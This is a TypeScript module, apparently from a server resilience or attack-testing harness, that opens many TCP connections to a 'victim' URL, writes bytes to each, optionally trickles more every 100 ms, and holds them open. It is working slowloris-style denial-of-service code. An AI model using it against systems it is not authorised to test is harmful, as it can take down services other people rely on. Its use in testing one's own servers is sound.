import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Victim } from "./attack.ts";

const HELD_MS = 5000;
const OPENED_AT_ONCE = 100;

/** Bytes to write on each of many connections, which are held for some seconds. */
export interface Written {
  readonly connections: number;
  /** Written at once. */
  readonly bytes: string;
  /** Written again every 100 ms. */
  readonly dribble?: string;
  /** Nothing of what comes is read. */
  readonly isUnread?: boolean;
}

/** Opens connections, of which some may be refused, writes the same to each, and closes them after some seconds. */
export async function writeToMany(victim: Pick<Victim, "url">, written: Written): Promise<void> {
  const sockets: Socket[] = [];
  for (let opened = 0; opened < written.connections; opened += OPENED_AT_ONCE) {
    const count = Math.min(OPENED_AT_ONCE, written.connections - opened);
    const some = Array.from({ length: count }, () => open(victim.url, written));
    for (const one of await Promise.allSettled(some)) {
      if (one.status === "fulfilled") sockets.push(one.value);
    }
  }
  const { dribble } = written;
  const dribbling =
    dribble !== undefined &&
    setInterval(() => {
      for (const socket of sockets) if (socket.writable) socket.write(dribble);
    }, 100);
  await sleep(HELD_MS);
  if (dribbling !== false) clearInterval(dribbling);
  for (const socket of sockets) socket.destroy();
}

async function open(url: string, { bytes, isUnread = false }: Written): Promise<Socket> {
  const { hostname: host, port } = new URL(url);
  const socket = connect({ host, port: Number(port) });
  socket.on("error", () => undefined);
  await Promise.race([once(socket, "connect"), once(socket, "close").then(() => refused(url))]);
  if (isUnread) socket.pause();
  else socket.resume();
  if (bytes !== "") socket.write(bytes);
  return socket;
}

function refused(url: string): never {
  throw new Error(`${url} took no connection`);
}
